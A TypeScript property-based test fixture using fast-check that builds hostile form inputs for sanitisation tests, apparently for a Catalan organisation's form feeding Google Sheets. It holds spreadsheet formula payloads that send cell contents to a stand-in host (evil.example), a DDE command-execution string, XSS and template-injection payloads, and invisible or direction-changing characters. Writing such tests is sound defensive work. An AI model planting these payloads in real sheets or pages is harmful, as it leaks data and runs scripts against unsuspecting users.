// Strings a hostile or careless sender puts in a form field: spreadsheet formulas that
// fetch or leak data, markup, invisible and direction-changing characters, line breaks
// that would split an email header, decomposed accents, full-width look-alikes.
import fc from 'fast-check';

/** Every way a cell can be made to start a formula when typed (CR and tab are trimmed first). */
export const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t=', '\t+', '\r=', ' =', '＝', '=\u200B'] as const;

export const FORMULA_PAYLOADS = [
  'IMPORTXML("https://evil.example/?q="&A1,"//a")',
  'IMAGE("https://evil.example/pixel.png?"&B2)',
  'HYPERLINK("https://evil.example/login","Cliqueu aquí")',
  'IMPORTDATA("https://evil.example/x.csv")',
  "cmd|' /C calc'!A0",
  'SUM(1,1)',
  '1+1',
  'A1',
] as const;

export const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '</td></tr></table><a href="javascript:alert(1)">x</a>',
  "<b onmouseover='alert(1)'>negreta</b>",
  '<style>body{display:none}</style>',
  '&amp; &lt;script&gt; &#60;b&#62;',
  '<!-- comentari',
  '{{7*7}} ${7*7}',
] as const;

/** C0/C1 controls, NUL, bidi overrides and isolates, marks and a BOM. */
export const CONTROLS = ['\u0000', '\u0001', '\u0008', '\u000B', '\u000C', '\u001B[31m', '\u007F', '\u0085', '\u009B', '\u200E', '\u200F', '\u202A', '\u202D', '\u202E', '\u2066', '\u2067', '\u2069', '\uFEFF'] as const;

export const LINE_BREAKS = ['\r\n', '\n', '\r', '\u2028', '\u2029'] as const;

/** Catalan words written decomposed (NFD), as some keyboards and PDFs produce them. */
export const DECOMPOSED = ['Valle\u0300s', 'Celra\u0300', 'pla\u0300stics', 'gestio\u0301', 'Lle\u0301rida', 'come\u0301s', 'c\u0327'] as const;

export const FULL_WIDTH = ['＝IMPORTXML("https://evil.example","//a")', '＋１＋１', 'ＳＵＭ（１，１）', '＜script＞alert(1)＜/script＞', '＠IMAGE("x")'] as const;

export const WORDS = ['Energia comunitària', 'Mercat de proximitat', 'Cooperativa de cures', 'Compra pública responsable', 'L’Hospitalet', 'Taula d’ESS', 'Sant Cugat del Vallès'] as const;

const formula = fc.tuple(fc.constantFrom(...FORMULA_PREFIXES), fc.constantFrom(...FORMULA_PAYLOADS)).map(([p, f]) => p + f);
const words = fc.oneof(fc.constantFrom(...WORDS), fc.string({ minLength: 1, maxLength: 12, unit: 'grapheme' }));

/** One hostile piece, optionally with line breaks (multi-line fields, or to test single-line ones). */
export function piece(opts: { breaks: boolean }): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: formula },
    { weight: 3, arbitrary: fc.constantFrom(...MARKUP) },
    { weight: 2, arbitrary: fc.constantFrom(...CONTROLS) },
    { weight: 2, arbitrary: fc.constantFrom(...DECOMPOSED) },
    { weight: 2, arbitrary: fc.constantFrom(...FULL_WIDTH) },
    { weight: 3, arbitrary: words },
    ...(opts.breaks ? [{ weight: 2, arbitrary: fc.constantFrom(...LINE_BREAKS) }] : []),
  );
}

/**
 * A hostile value that starts as an attack would (a formula, markup, full-width or control
 * first) and always holds a visible word, so normalisation never leaves it empty by chance.
 */
export function hostileText(opts: { breaks: boolean; maxPieces?: number }): fc.Arbitrary<string> {
  const lead = fc.oneof(formula, fc.constantFrom(...MARKUP), fc.constantFrom(...FULL_WIDTH), fc.constantFrom(...CONTROLS).map((c) => `${c}=HYPERLINK("https://evil.example")`));
  return fc
    .tuple(lead, fc.array(piece(opts), { maxLength: opts.maxPieces ?? 4 }), fc.constantFrom(...WORDS))
    .map(([first, rest, word]) => [first, ...rest, word].join(' '));
}

/** A string past the Sheets cell limit (50,000 characters), still under the 256 KB body limit. */
export const overCellLimit = (seed: string): string => (seed + '=A1<b>é ').repeat(Math.ceil(50_001 / (seed.length + 8))).slice(0, 50_001);
